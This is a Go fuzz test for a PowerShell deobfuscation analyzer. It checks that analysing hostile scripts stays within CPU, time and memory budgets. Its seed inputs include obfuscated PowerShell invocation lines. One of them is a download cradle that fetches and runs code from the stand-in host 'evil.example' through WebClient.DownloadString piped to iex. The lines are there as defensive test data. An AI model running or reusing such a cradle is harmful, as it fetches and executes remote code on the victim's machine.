package psdeob

import (
	"context"
	"runtime/metrics"
	"testing"
	"time"

	"github.com/secmcp/secmcp/internal/cputime"
)

// Fuzzing under the budget:
//
//	go test -run '^$' -fuzz FuzzAnalyzeBudget -fuzztime 10m ./internal/psdeob/
//
// Any input may be cut short by a limit, but none may build more than the
// byte budget, allocate more than the budget allows, or outlive its deadline.
//
// The deadline is checked on the CPU time the call used, which does not
// depend on how loaded the machine is (the machine this was written on ran
// at a load of 27 on 2 cores, where the wall clock of a call that stopped
// at its deadline could read 3 s): at most the deadline plus fuzzSlack,
// doubled because the garbage collector runs beside the call on the other
// core. The wall clock only has to stay under fuzzWallBound.
const (
	fuzzTimeout = time.Second
	// fuzzSlack covers one uninterruptible operation (a pattern match over
	// at most 256 KiB) and one findings pass, in an instrumented build.
	fuzzSlack     = 1500 * time.Millisecond
	fuzzCPUBound  = 2 * (fuzzTimeout + fuzzSlack)
	fuzzWallBound = fuzzTimeout + 15*time.Second
)

// allocBound is the most an analysis may allocate in all (garbage
// included, so it also bounds how far the heap can grow): three times the
// values it built (builders and copies), the parse of the input (about 300
// bytes a byte, TestParseCostFactor), a little per evaluation step (≤ 30
// bytes measured on the corpus and the hostile scripts) and a fixed
// allowance for the findings. Measured on the corpus: at most 0.9 MiB for
// a 1 KiB sample.
func allocBound(used Limits, input int) uint64 {
	return uint64(3*used.Bytes) + uint64(input)*400 + uint64(used.Steps)*64 + 8<<20
}

func FuzzAnalyzeBudget(f *testing.F) {
	for _, s := range hostileScripts {
		f.Add(s)
	}
	for _, s := range []string{
		"iex ('a'+'b')", "powershell -enc SQBFAFgA", `"{1}{0}" -f 'a','b' | iex`, "[char[]](72,105) -join ''",
		`$s='http://evil.example/p'; iex (New-Object Net.WebClient).DownloadString($s)`,
		`$x = [Convert]::FromBase64String('aGVsbG8='); [Text.Encoding]::UTF8.GetString($x) | iex`,
	} {
		f.Add(s)
	}
	sample := []metrics.Sample{{Name: "/gc/heap/allocs:bytes"}}
	allocated := func() uint64 {
		metrics.Read(sample)
		return sample[0].Value.Uint64()
	}
	f.Fuzz(func(t *testing.T, s string) {
		before, cpu0 := allocated(), cputime.Used()
		start := time.Now()
		a, err := Analyze(context.Background(), s, Options{Timeout: fuzzTimeout, Limits: hostileLimits})
		took, cpu := time.Since(start), cputime.Used()-cpu0
		alloc := allocated() - before
		if err != nil {
			t.Fatalf("Analyze: %v", err)
		}
		if cpu > fuzzCPUBound || took > fuzzWallBound {
			t.Errorf("deadline overrun: %s of CPU (bound %s), %s on the clock (bound %s); deadline %s, used %+v",
				cpu, fuzzCPUBound, took, fuzzWallBound, fuzzTimeout, a.Used)
		}
		if a.Used.Bytes > hostileLimits.Bytes {
			t.Errorf("byte budget overrun: built %d bytes, budget %d", a.Used.Bytes, hostileLimits.Bytes)
		}
		if b := allocBound(a.Used, len(s)); alloc > b {
			t.Errorf("allocated %d KiB, more than the budget allows (%d KiB; used %+v)", alloc>>10, b>>10, a.Used)
		}
		if a.Limit != nil && a.Incomplete != a.Limit.Error() {
			t.Errorf("Incomplete %q is not the limit's message", a.Incomplete)
		}
	})
}
